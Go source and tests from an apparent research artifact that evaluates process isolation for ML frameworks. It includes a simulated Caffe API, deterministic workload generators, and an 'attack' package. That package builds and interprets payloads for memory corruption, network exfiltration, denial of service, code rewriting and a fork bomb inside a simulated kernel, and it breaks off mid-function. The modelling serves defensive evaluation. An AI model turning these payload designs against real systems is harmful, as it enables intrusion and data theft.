	v1, _ := wt.AtFlat(1)
	if v0 != 0 || v1 != 2 {
		t.Fatalf("solver step = %v %v", v0, v1)
	}
}

func TestBlobReshape(t *testing.T) {
	e := newEnv(t)
	id, tt, _ := e.ctx.NewTensor(6)
	_ = tt.SetValues([]float64{1, 2, 3, 4, 5, 6})
	out := e.call(t, "caffe.Blob.Reshape", framework.Obj(id), framework.Int64(3), framework.Int64(2))[0]
	rt, _ := e.ctx.Tensor(out)
	if sh := rt.Shape(); sh[0] != 3 || sh[1] != 2 {
		t.Fatalf("reshape = %v", sh)
	}
	if _, err := e.reg.MustGet("caffe.Blob.Reshape").Exec(e.ctx,
		[]framework.Value{framework.Obj(id), framework.Int64(4), framework.Int64(4)}); err == nil {
		t.Fatal("bad reshape should fail")
	}
}

func TestStoringAPIs(t *testing.T) {
	e := newEnv(t)
	id, tt, _ := e.ctx.NewTensor(2)
	_ = tt.SetValues([]float64{1, 2})
	for _, api := range []string{"caffe.WriteProtoToTextFile", "caffe.hdf5_save_string", "caffe.Solver.Snapshot"} {
		path := "/" + api
		e.call(t, api, framework.Obj(id), framework.Str(path))
		if e.k.FS.Size(path) != 16 {
			t.Errorf("%s wrote %d bytes", api, e.k.FS.Size(path))
		}
	}
}

func TestRegistryTypes(t *testing.T) {
	counts := map[framework.APIType]int{}
	for _, a := range simcaffe.Registry().All() {
		counts[a.TrueType]++
	}
	if counts[framework.TypeLoading] != 2 || counts[framework.TypeStoring] != 3 {
		t.Fatalf("type spread = %v", counts)
	}
	// Per Table 4, Caffe has no visualizing APIs.
	if counts[framework.TypeVisualizing] != 0 {
		t.Fatal("simcaffe should have no visualizing APIs")
	}
}
