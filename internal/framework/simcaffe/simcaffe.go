// Package simcaffe is a miniature Caffe: prototxt-style model definition
// loading, a layered Net with Forward/Backward passes, trained-weight
// copying, a stateful SGD solver, and HDF5-style persistence — the caffe
// surface the paper's three Caffe applications use (Table 6).
//
// Model text format ("prototxt"): one line per layer, "name size", where
// size is the number of float64 weights; weights start at 0.1 per layer
// index. Binary weights use the same float64 big-endian framing as the
// other frameworks.
package simcaffe

import (
	"encoding/binary"
	"fmt"
	"math"
	"strconv"
	"strings"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// Name is the framework identifier.
const Name = "simcaffe"

func dpOps() []framework.Op {
	return []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageMem)}
}

func tensorArg(ctx *framework.Ctx, args []framework.Value, i int) (*object.Tensor, error) {
	if i >= len(args) {
		return nil, fmt.Errorf("simcaffe: missing tensor argument %d", i)
	}
	return ctx.Tensor(args[i])
}

func newOut(ctx *framework.Ctx, shape []int, vals []float64) (framework.Value, error) {
	id, t, err := ctx.NewTensor(shape...)
	if err != nil {
		return framework.Nil(), err
	}
	if err := t.SetValues(vals); err != nil {
		return framework.Nil(), err
	}
	return framework.Obj(id), nil
}

// ParsePrototxt parses the layer definition text into (names, sizes).
func ParsePrototxt(text string) (names []string, sizes []int, err error) {
	for ln, line := range strings.Split(strings.TrimSpace(text), "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		parts := strings.Fields(line)
		if len(parts) != 2 {
			return nil, nil, fmt.Errorf("simcaffe: prototxt line %d: %q", ln+1, line)
		}
		n, err := strconv.Atoi(parts[1])
		if err != nil || n <= 0 {
			return nil, nil, fmt.Errorf("simcaffe: prototxt line %d: bad size %q", ln+1, parts[1])
		}
		names = append(names, parts[0])
		sizes = append(sizes, n)
	}
	if len(names) == 0 {
		return nil, nil, fmt.Errorf("simcaffe: empty prototxt")
	}
	return names, sizes, nil
}

// Registry builds the simcaffe API registry.
func Registry() *framework.Registry {
	r := framework.NewRegistry()

	readProto := func(name string, binaryFile bool) *framework.API {
		var api *framework.API
		api = &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeLoading,
			StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
			Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysLseek, kernel.SysClose, kernel.SysBrk},
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				if len(args) < 1 {
					return nil, fmt.Errorf("simcaffe: %s needs a path", name)
				}
				raw, err := ctx.FileRead(args[0].Str)
				if err != nil {
					return nil, err
				}
				if fired, err := ctx.MaybeExploit(api, raw); fired {
					return nil, err
				}
				if !binaryFile {
					if _, _, err := ParsePrototxt(string(raw)); err != nil {
						return nil, err
					}
				}
				id, _, err := ctx.NewBlob(raw)
				if err != nil {
					return nil, err
				}
				return []framework.Value{framework.Obj(id)}, nil
			},
		}
		return api
	}
	r.Register(readProto("caffe.ReadProtoFromTextFile", false))
	r.Register(readProto("caffe.ReadProtoFromBinaryFile", true))

	// Net.init builds weight tensors from a parsed prototxt blob. Each
	// layer's weights initialize to 0.1*(layerIndex+1).
	r.Register(&framework.API{
		Name: "caffe.Net", Framework: Name, TrueType: framework.TypeProcessing,
		Stateful:  true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysMmap}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			proto, err := ctx.Blob(args[0])
			if err != nil {
				return nil, err
			}
			raw, err := proto.Bytes()
			if err != nil {
				return nil, err
			}
			_, sizes, err := ParsePrototxt(string(raw))
			if err != nil {
				return nil, err
			}
			total := 0
			for _, s := range sizes {
				total += s
			}
			vals := make([]float64, total)
			off := 0
			for li, s := range sizes {
				for i := 0; i < s; i++ {
					vals[off+i] = 0.1 * float64(li+1)
				}
				off += s
			}
			ctx.EmitMemOp()
			v, err := newOut(ctx, []int{total}, vals)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	r.Register(&framework.API{
		Name: "caffe.Net.Forward", Framework: Name, TrueType: framework.TypeProcessing,
		Stateful:  true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysFutex, kernel.SysClockGettime}, Intensity: 10,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			w, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			in, err := tensorArg(ctx, args, 1)
			if err != nil {
				return nil, err
			}
			vw, err := w.Values()
			if err != nil {
				return nil, err
			}
			vi, err := in.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(w.Size()+in.Size(), 10)
			ctx.EmitMemOp()
			// Dot-product score per weight chunk of input length.
			n := len(vi)
			if n == 0 {
				return nil, fmt.Errorf("simcaffe: empty input")
			}
			outs := len(vw) / n
			if outs == 0 {
				outs = 1
			}
			out := make([]float64, outs)
			for o := 0; o < outs; o++ {
				s := 0.0
				for j := 0; j < n && o*n+j < len(vw); j++ {
					s += vw[o*n+j] * vi[j]
				}
				out[o] = math.Max(0, s)
			}
			v, err := newOut(ctx, []int{outs}, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	r.Register(&framework.API{
		Name: "caffe.Net.Backward", Framework: Name, TrueType: framework.TypeProcessing,
		Stateful:  true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysFutex}, Intensity: 10,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			out, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vo, err := out.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(out.Size(), 10)
			ctx.EmitMemOp()
			grads := make([]float64, len(vo))
			for i, v := range vo {
				grads[i] = 2 * v // d(v^2)/dv
			}
			v, err := newOut(ctx, out.Shape(), grads)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	r.Register(&framework.API{
		Name: "caffe.Net.CopyTrainedLayersFrom", Framework: Name, TrueType: framework.TypeProcessing,
		Stateful:  true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			dst, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			src, err := ctx.Blob(args[1])
			if err != nil {
				return nil, err
			}
			raw, err := src.Bytes()
			if err != nil {
				return nil, err
			}
			if len(raw)%8 != 0 {
				return nil, fmt.Errorf("simcaffe: weight blob %d bytes", len(raw))
			}
			n := len(raw) / 8
			if n > dst.Len() {
				n = dst.Len()
			}
			vals, err := dst.Values()
			if err != nil {
				return nil, err
			}
			for i := 0; i < n; i++ {
				vals[i] = math.Float64frombits(binary.BigEndian.Uint64(raw[i*8:]))
			}
			ctx.Charge(len(raw), 1)
			ctx.EmitMemOp()
			if err := dst.SetValues(vals); err != nil {
				return nil, err
			}
			return []framework.Value{args[0]}, nil
		},
	})

	r.Register(&framework.API{
		Name: "caffe.SGDSolver.Step", Framework: Name, TrueType: framework.TypeProcessing,
		Stateful: true, SharedState: true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysGetrandom}, Intensity: 2,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			w, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			g, err := tensorArg(ctx, args, 1)
			if err != nil {
				return nil, err
			}
			if w.Len() != g.Len() {
				return nil, fmt.Errorf("simcaffe: solver weight/grad mismatch")
			}
			vw, err := w.Values()
			if err != nil {
				return nil, err
			}
			vg, err := g.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(w.Size(), 2)
			ctx.EmitMemOp()
			for i := range vw {
				vw[i] -= 0.01 * vg[i]
			}
			if err := w.SetValues(vw); err != nil {
				return nil, err
			}
			return []framework.Value{args[0]}, nil
		},
	})

	r.Register(&framework.API{
		Name: "caffe.Blob.Reshape", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			if len(args) < 3 {
				return nil, fmt.Errorf("simcaffe: Reshape needs rows, cols")
			}
			rows, cols := int(args[1].Int), int(args[2].Int)
			if rows*cols != t.Len() {
				return nil, fmt.Errorf("simcaffe: reshape %d to %dx%d", t.Len(), rows, cols)
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.EmitMemOp()
			v, err := newOut(ctx, []int{rows, cols}, vals)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	writeProto := func(name string) *framework.API {
		return &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeStoring,
			StaticOps: []framework.Op{framework.WriteOp(framework.StorageFile, framework.StorageMem)},
			Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysWrite, kernel.SysClose, kernel.SysAccess},
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				if len(args) < 2 {
					return nil, fmt.Errorf("simcaffe: %s needs (tensor, path)", name)
				}
				t, err := tensorArg(ctx, args, 0)
				if err != nil {
					return nil, err
				}
				vals, err := t.Values()
				if err != nil {
					return nil, err
				}
				raw := make([]byte, 8*len(vals))
				for i, v := range vals {
					binary.BigEndian.PutUint64(raw[i*8:], math.Float64bits(v))
				}
				ctx.Charge(len(raw), 1)
				return nil, ctx.FileWrite(args[1].Str, raw)
			},
		}
	}
	r.Register(writeProto("caffe.WriteProtoToTextFile"))
	r.Register(writeProto("caffe.hdf5_save_string"))
	r.Register(writeProto("caffe.Solver.Snapshot"))

	return r
}
