package workload

import (
	"bytes"
	"testing"

	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/framework/simtorch"
	"freepart.dev/freepart/internal/kernel"
)

func TestDeterministicGeneration(t *testing.T) {
	a, b := New(42), New(42)
	if !bytes.Equal(a.Image(8, 8, 1), b.Image(8, 8, 1)) {
		t.Fatal("same seed should generate identical images")
	}
	c := New(43)
	if bytes.Equal(a.Image(8, 8, 1), c.Image(8, 8, 1)) {
		t.Fatal("different seeds should differ")
	}
}

func TestImageHasBrightRegions(t *testing.T) {
	img := New(1).Image(16, 16, 1)
	bright := 0
	for _, v := range img {
		if v >= 200 {
			bright++
		}
	}
	if bright < 4 {
		t.Fatalf("only %d bright pixels; detectors need features", bright)
	}
}

func TestEncodedImageDecodes(t *testing.T) {
	enc := New(1).EncodedImage(6, 4, 3)
	r, c, ch, data, err := simcv.DecodeImage(enc)
	if err != nil || r != 6 || c != 4 || ch != 3 || len(data) != 72 {
		t.Fatalf("decode = %d %d %d (%d bytes), %v", r, c, ch, len(data), err)
	}
}

func TestOMRSheetMarksMatchAnswers(t *testing.T) {
	g := New(7)
	img, answers, rows, cols := g.OMRSheet(4, 3, 6)
	if rows != 24 || cols != 18 || len(answers) != 4 {
		t.Fatalf("sheet %dx%d answers %v", rows, cols, answers)
	}
	for q, a := range answers {
		// The marked bubble's centre is bright; others dark.
		for o := 0; o < 3; o++ {
			centre := img[(q*6+3)*cols+o*6+3]
			if o == a && centre != 255 {
				t.Fatalf("q%d marked option %d not filled", q, a)
			}
			if o != a && centre != 0 {
				t.Fatalf("q%d option %d spuriously filled", q, o)
			}
		}
	}
}

func TestEncodedOMRSheetDecodes(t *testing.T) {
	enc, answers := New(7).EncodedOMRSheet(4, 3, 6)
	if _, _, _, _, err := simcv.DecodeImage(enc); err != nil {
		t.Fatal(err)
	}
	if len(answers) != 4 {
		t.Fatalf("answers = %v", answers)
	}
}

func TestVideoFrames(t *testing.T) {
	cam := kernel.NewCamera("/dev/x")
	New(2).VideoFrames(cam, 3, 8, 8, 1)
	if cam.Pending() != 3 {
		t.Fatalf("pending = %d", cam.Pending())
	}
	frame, ok := cam.Read()
	if !ok {
		t.Fatal("no frame")
	}
	if _, _, _, _, err := simcv.DecodeImage(frame); err != nil {
		t.Fatal(err)
	}
}

func TestDatasetRange(t *testing.T) {
	for _, v := range New(3).Dataset(256) {
		if v < -1 || v >= 1 {
			t.Fatalf("sample %v out of [-1,1)", v)
		}
	}
	if len(New(3).EncodedDataset(4)) != 32 {
		t.Fatal("encoded dataset wrong size")
	}
}

func TestModelDecodes(t *testing.T) {
	raw := New(4).Model(8, 4)
	layers, err := simtorch.DecodeModel(raw)
	if err != nil || len(layers) != 2 || len(layers[0]) != 8 || len(layers[1]) != 4 {
		t.Fatalf("model = %v, %v", layers, err)
	}
	for _, v := range layers[0] {
		if v < -0.5 || v >= 0.5 {
			t.Fatalf("weight %v out of [-0.5,0.5)", v)
		}
	}
}

func TestTextAndMNIST(t *testing.T) {
	txt := New(5).Text(10)
	if len(bytes.Fields(txt)) != 10 {
		t.Fatalf("text words = %d", len(bytes.Fields(txt)))
	}
	if len(New(5).MNISTFile(3)) != 3*64*8 {
		t.Fatal("mnist file wrong size")
	}
}

func TestFilePlanProvisions(t *testing.T) {
	k := kernel.New()
	paths := New(6).FilePlan(k, "/app", 3, 8, 8, 1, 0)
	if len(paths) != 3 {
		t.Fatalf("paths = %v", paths)
	}
	for _, p := range paths {
		if !k.FS.Exists(p) {
			t.Fatalf("missing %s", p)
		}
	}
	for _, f := range []string{"/app/classifier.xml", "/app/model.pt", "/app/data.bin"} {
		if !k.FS.Exists(f) {
			t.Fatalf("missing %s", f)
		}
	}
	// featN <= 0 defaults to 512: layer 0 holds 2048 weights.
	raw, _ := k.FS.ReadFile("/app/model.pt")
	layers, err := simtorch.DecodeModel(raw)
	if err != nil || len(layers[0]) != 2048 {
		t.Fatalf("default model layer 0 = %d weights, %v", len(layers[0]), err)
	}
}
