// Package workload generates the deterministic inputs the evaluation runs
// on: synthetic images (plain, faces, OMR sheets), video frame streams,
// text corpora, numeric datasets, and classifier/model files. Everything
// derives from seeded PRNGs so every experiment is bit-reproducible.
package workload

import (
	"fmt"
	"math/rand"

	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/framework/simflow"
	"freepart.dev/freepart/internal/framework/simtorch"
	"freepart.dev/freepart/internal/kernel"
)

// Gen is a seeded workload generator.
type Gen struct {
	rng *rand.Rand
}

// New creates a generator with the given seed.
func New(seed int64) *Gen {
	return &Gen{rng: rand.New(rand.NewSource(seed))}
}

// Image produces raw pixels with textured noise plus a few bright regions
// (so detectors, thresholds, and contours have something to find).
func (g *Gen) Image(rows, cols, channels int) []byte {
	data := make([]byte, rows*cols*channels)
	for i := range data {
		data[i] = byte(g.rng.Intn(80))
	}
	// 2-4 bright rectangles.
	for b := 0; b < 2+g.rng.Intn(3); b++ {
		h, w := 2+g.rng.Intn(rows/3+1), 2+g.rng.Intn(cols/3+1)
		y, x := g.rng.Intn(rows-h+1), g.rng.Intn(cols-w+1)
		for r := y; r < y+h; r++ {
			for c := x; c < x+w; c++ {
				for z := 0; z < channels; z++ {
					data[(r*cols+c)*channels+z] = byte(200 + g.rng.Intn(56))
				}
			}
		}
	}
	return data
}

// EncodedImage produces a simcv-format image file.
func (g *Gen) EncodedImage(rows, cols, channels int) []byte {
	enc, err := simcv.EncodeImage(rows, cols, channels, g.Image(rows, cols, channels))
	if err != nil {
		panic(err) // shapes are generator-controlled
	}
	return enc
}

// OMRSheet draws an answer sheet: a grid of bubbles, some filled. answers
// records which option (0..options-1) is marked per question.
func (g *Gen) OMRSheet(questions, options, cell int) (img []byte, answers []int, rows, cols int) {
	rows = questions * cell
	cols = options * cell
	data := make([]byte, rows*cols)
	answers = make([]int, questions)
	for q := 0; q < questions; q++ {
		answers[q] = g.rng.Intn(options)
		for o := 0; o < options; o++ {
			if o != answers[q] {
				continue
			}
			// Fill the marked bubble.
			for r := q*cell + 1; r < (q+1)*cell-1; r++ {
				for c := o*cell + 1; c < (o+1)*cell-1; c++ {
					data[r*cols+c] = 255
				}
			}
		}
	}
	return data, answers, rows, cols
}

// EncodedOMRSheet produces an encoded OMR submission.
func (g *Gen) EncodedOMRSheet(questions, options, cell int) ([]byte, []int) {
	img, answers, rows, cols := g.OMRSheet(questions, options, cell)
	enc, err := simcv.EncodeImage(rows, cols, 1, img)
	if err != nil {
		panic(err)
	}
	return enc, answers
}

// VideoFrames queues n encoded frames on a camera device.
func (g *Gen) VideoFrames(cam *kernel.Camera, n, rows, cols, channels int) {
	for i := 0; i < n; i++ {
		cam.Push(g.EncodedImage(rows, cols, channels))
	}
}

// Dataset produces n float64 samples in [-1, 1).
func (g *Gen) Dataset(n int) []float64 {
	out := make([]float64, n)
	for i := range out {
		out[i] = g.rng.Float64()*2 - 1
	}
	return out
}

// EncodedDataset produces a simflow dataset file.
func (g *Gen) EncodedDataset(n int) []byte {
	return simflow.EncodeDataset(g.Dataset(n))
}

// Model produces a torch model with the given layer sizes (weights in
// [-0.5, 0.5)).
func (g *Gen) Model(layerSizes ...int) []byte {
	layers := make([][]float64, len(layerSizes))
	for i, n := range layerSizes {
		l := make([]float64, n)
		for j := range l {
			l[j] = g.rng.Float64() - 0.5
		}
		layers[i] = l
	}
	return simtorch.EncodeModel(layers)
}

// Classifier produces a cascade classifier file tuned to fire on the
// bright regions Image() draws.
func (g *Gen) Classifier(window int) []byte {
	return simcv.EncodeClassifier(150, window)
}

// Text produces n pseudo-words of lorem-style text.
func (g *Gen) Text(n int) []byte {
	words := []string{"data", "frame", "tensor", "grade", "answer", "pixel", "score", "mark", "sheet", "model"}
	out := make([]byte, 0, n*6)
	for i := 0; i < n; i++ {
		if i > 0 {
			out = append(out, ' ')
		}
		out = append(out, words[g.rng.Intn(len(words))]...)
	}
	return out
}

// MNISTFile produces a dataset of n 8x8 samples in the simtorch MNIST
// format (flat float64s).
func (g *Gen) MNISTFile(n int) []byte {
	return simflow.EncodeDataset(g.Dataset(n * 64))
}

// FilePlan provisions a standard per-app input directory: count images
// under dir/inputs/, a classifier, a model, and a dataset. Returns the
// image paths. The model is sized for feature tensors of featN elements
// (layer 0 maps featN -> 4, layer 1 maps 4 -> 4).
func (g *Gen) FilePlan(k *kernel.Kernel, dir string, count, rows, cols, channels, featN int) []string {
	paths := make([]string, 0, count)
	for i := 0; i < count; i++ {
		p := fmt.Sprintf("%s/inputs/%03d.img", dir, i)
		k.FS.WriteFile(p, g.EncodedImage(rows, cols, channels))
		paths = append(paths, p)
	}
	k.FS.WriteFile(dir+"/classifier.xml", g.Classifier(8))
	if featN <= 0 {
		featN = 512
	}
	k.FS.WriteFile(dir+"/model.pt", g.Model(featN*4, 4*4))
	k.FS.WriteFile(dir+"/data.bin", g.EncodedDataset(256))
	return paths
}
