package workload

import (
	"reflect"
	"testing"
)

func TestZipfDeterminism(t *testing.T) {
	pop := ZipfPopulation{Users: 10000, S: 1.2, Seed: 42}
	a := pop.Keys(5000)
	b := pop.Keys(5000)
	if !reflect.DeepEqual(a, b) {
		t.Fatal("same seed must reproduce a byte-equal key stream")
	}
	c := ZipfPopulation{Users: 10000, S: 1.2, Seed: 43}.Keys(5000)
	if reflect.DeepEqual(a, c) {
		t.Fatal("distinct seeds produced identical key streams")
	}
}

func TestZipfKeysInRange(t *testing.T) {
	pop := ZipfPopulation{Users: 512, S: 1.5, Seed: 7}
	for _, k := range pop.Keys(4096) {
		if k >= 512 {
			t.Fatalf("key %d outside universe [0,512)", k)
		}
	}
}

func TestZipfSkew(t *testing.T) {
	// A steeper exponent concentrates more mass on the hottest key, and any
	// valid skew makes key 0 dominate a uniform share by a wide margin.
	n := 20000
	mild := ZipfPopulation{Users: 1000, S: 1.1, Seed: 5}.Keys(n)
	steep := ZipfPopulation{Users: 1000, S: 2.0, Seed: 5}.Keys(n)
	count := func(keys []uint64, k uint64) int {
		c := 0
		for _, x := range keys {
			if x == k {
				c++
			}
		}
		return c
	}
	if m, s := count(mild, 0), count(steep, 0); s <= m {
		t.Fatalf("steeper skew should concentrate on key 0: mild=%d steep=%d", m, s)
	}
	if c := count(mild, 0); c < 10*n/1000 {
		t.Fatalf("hot key drew %d of %d — no visible skew over uniform", c, n)
	}
}

func TestZipfDefaultsAreSafe(t *testing.T) {
	// Degenerate parameters must not panic and must stay in range.
	keys := ZipfPopulation{Users: 0, S: 0, Seed: 1}.Keys(16)
	for _, k := range keys {
		if k != 0 {
			t.Fatalf("single-user universe drew key %d", k)
		}
	}
}

func TestHottest(t *testing.T) {
	keys := []uint64{5, 5, 5, 2, 2, 9, 1, 1, 1, 1}
	got := Hottest(keys, 3)
	want := []uint64{1, 5, 2}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("Hottest = %v, want %v", got, want)
	}
	if h := Hottest(keys, 100); len(h) != 4 {
		t.Fatalf("Hottest with m beyond uniques returned %d keys, want 4", len(h))
	}
}
