package workload

import "math/rand"

// ZipfPopulation is a seeded, Zipf-skewed population of session keys: a
// universe of Users distinct keys where key rank r is drawn with probability
// proportional to 1/(r+v)^s. It is the shared session generator for every
// macro benchmark that needs tens of thousands of returning users with
// realistic popularity skew — a handful of hot keys dominate, a long tail
// appears once or twice.
type ZipfPopulation struct {
	// Users is the size of the key universe (distinct session keys).
	Users int
	// S is the skew exponent (must be > 1; larger is more skewed).
	S float64
	// Seed drives the draw sequence; the same (Users, S, Seed) triple
	// reproduces the identical key stream byte-for-byte.
	Seed int64
}

// Keys draws n session keys from the population. Keys are in [0, Users).
// The draw is fully deterministic: same receiver, same n ⇒ byte-equal
// output across runs and processes.
func (z ZipfPopulation) Keys(n int) []uint64 {
	users := z.Users
	if users <= 0 {
		users = 1
	}
	s := z.S
	if s <= 1 {
		s = 1.07 // below rand.NewZipf's domain; default to mild web-trace skew
	}
	rng := rand.New(rand.NewSource(z.Seed))
	zf := rand.NewZipf(rng, s, 1, uint64(users-1))
	out := make([]uint64, n)
	for i := range out {
		out[i] = zf.Uint64()
	}
	return out
}

// Hottest returns the m most frequent keys of a drawn stream, most popular
// first, ties broken by lower key. Benchmarks use it to aim a hot-range
// drill at the keys that actually dominate the draw.
func Hottest(keys []uint64, m int) []uint64 {
	counts := map[uint64]int{}
	for _, k := range keys {
		counts[k]++
	}
	uniq := make([]uint64, 0, len(counts))
	for k := range counts {
		uniq = append(uniq, k)
	}
	// Selection sort by (count desc, key asc): populations are small enough
	// and determinism matters more than asymptotics here.
	for i := 0; i < len(uniq); i++ {
		best := i
		for j := i + 1; j < len(uniq); j++ {
			if counts[uniq[j]] > counts[uniq[best]] ||
				(counts[uniq[j]] == counts[uniq[best]] && uniq[j] < uniq[best]) {
				best = j
			}
		}
		uniq[i], uniq[best] = uniq[best], uniq[i]
	}
	if m > len(uniq) {
		m = len(uniq)
	}
	return uniq[:m]
}
