// Package attack implements the adversary: the CVE corpus used by the
// evaluation (Table 5) and the §4.1 study (Fig. 7), exploit construction
// (crafted inputs carrying payloads), and the payload semantics themselves
// — memory corruption at a known address, data exfiltration over the
// network, denial of service, and code rewriting via mprotect.
//
// Payloads execute inside whatever process hosts the vulnerable API, with
// exactly that process's privileges: its address space and its syscall
// filter. Whether an attack succeeds is therefore decided by the isolation
// mechanism under test, not by this package.
package attack

import (
	"encoding/hex"
	"fmt"
	"strconv"
	"strings"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
)

// Payload kinds (the first token of the payload string).
const (
	opCorrupt = "corrupt"  // corrupt:<addr>:<hexbytes>
	opExfil   = "exfil"    // exfil:<addr>:<len>:<host>
	opDoS     = "dos"      // dos
	opRewrite = "rewrite"  // rewrite:<addr>:<len>  (mprotect + overwrite code)
	opFork    = "forkbomb" // forkbomb (StegoNet §A.7)
)

// Corrupt builds a crafted input exploiting cve to overwrite the bytes at
// addr (in the exploited process's address space) with data. The §5.3
// threat model grants the attacker exact knowledge of target addresses.
func Corrupt(cve string, addr mem.Addr, data []byte) []byte {
	p := fmt.Sprintf("%s:%d:%s", opCorrupt, uint64(addr), hex.EncodeToString(data))
	return framework.Trigger(cve, []byte(p))
}

// Exfiltrate builds a crafted input exploiting cve to read n bytes at addr
// and transmit them to host.
func Exfiltrate(cve string, addr mem.Addr, n int, host string) []byte {
	p := fmt.Sprintf("%s:%d:%d:%s", opExfil, uint64(addr), n, host)
	return framework.Trigger(cve, []byte(p))
}

// DoS builds a crafted input exploiting cve to crash the hosting process.
func DoS(cve string) []byte {
	return framework.Trigger(cve, []byte(opDoS))
}

// CodeRewrite builds a crafted input exploiting cve to re-enable write on
// the code region at addr (mprotect) and overwrite n bytes of it.
func CodeRewrite(cve string, addr mem.Addr, n int) []byte {
	p := fmt.Sprintf("%s:%d:%d", opRewrite, uint64(addr), n)
	return framework.Trigger(cve, []byte(p))
}

// ForkBomb builds the StegoNet-style payload (§A.7): the trojaned model
// tries to fork when executed.
func ForkBomb(cve string) []byte {
	return framework.Trigger(cve, []byte(opFork))
}

// Outcome records what one exploit achieved.
type Outcome struct {
	CVE       string
	Fired     bool
	Corrupted bool // the targeted bytes changed
	Leaked    []byte
	Crashed   bool // the hosting process died
	Rewrote   bool // code pages were overwritten
	Forked    bool
	Err       error
}

// Log collects outcomes across a run.
type Log struct {
	Outcomes []*Outcome
}

// Last returns the most recent outcome, or nil.
func (l *Log) Last() *Outcome {
	if len(l.Outcomes) == 0 {
		return nil
	}
	return l.Outcomes[len(l.Outcomes)-1]
}

// Handler returns a framework.ExploitFunc that executes payloads with the
// exploited process's privileges and records outcomes in the log.
func (l *Log) Handler() framework.ExploitFunc {
	return func(ctx *framework.Ctx, cve string, payload []byte) error {
		out := &Outcome{CVE: cve, Fired: true}
		l.Outcomes = append(l.Outcomes, out)
		err := execute(ctx, string(payload), out)
		out.Err = err
		if err != nil {
			return fmt.Errorf("%w: %s: %v", framework.ErrExploited, cve, err)
		}
		return fmt.Errorf("%w: %s", framework.ErrExploited, cve)
	}
}

// execute interprets one payload inside the exploited process.
func execute(ctx *framework.Ctx, payload string, out *Outcome) error {
	parts := strings.Split(payload, ":")
	switch parts[0] {
	case opDoS, "":
		ctx.K.Crash(ctx.P, "DoS payload")
		out.Crashed = true
		return nil

	case opCorrupt:
		if len(parts) != 3 {
			return fmt.Errorf("attack: malformed corrupt payload")
		}
		addr, err := strconv.ParseUint(parts[1], 10, 64)
		if err != nil {
			return err
		}
		data, err := hex.DecodeString(parts[2])
		if err != nil {
			return err
		}
		// The out-of-bounds write lands in the exploited process's own
		// address space. A fault (unmapped or read-only page) is a wild
		// write: the process segfaults.
		if werr := ctx.P.Space().Store(mem.Addr(addr), data); werr != nil {
			ctx.K.Crash(ctx.P, fmt.Sprintf("wild write: %v", werr))
			out.Crashed = true
			return werr
		}
		out.Corrupted = true
		return nil

	case opExfil:
		if len(parts) != 4 {
			return fmt.Errorf("attack: malformed exfil payload")
		}
		addr, err := strconv.ParseUint(parts[1], 10, 64)
		if err != nil {
			return err
		}
		n, err := strconv.Atoi(parts[2])
		if err != nil {
			return err
		}
		host := parts[3]
		data, rerr := ctx.P.Space().Load(mem.Addr(addr), n)
		if rerr != nil {
			ctx.K.Crash(ctx.P, fmt.Sprintf("wild read: %v", rerr))
			out.Crashed = true
			return rerr
		}
		// Transmission needs socket syscalls — the seccomp filter's call.
		if cerr := ctx.K.NetConnect(ctx.P, host); cerr != nil {
			return cerr
		}
		if serr := ctx.K.NetSend(ctx.P, host, data); serr != nil {
			return serr
		}
		out.Leaked = data
		return nil

	case opRewrite:
		if len(parts) != 3 {
			return fmt.Errorf("attack: malformed rewrite payload")
		}
		addr, err := strconv.ParseUint(parts[1], 10, 64)
		if err != nil {
			return err
		}
		n, err := strconv.Atoi(parts[2])
		if err != nil {
			return err
		}
		region := mem.Region{Base: mem.Addr(addr), Size: n}
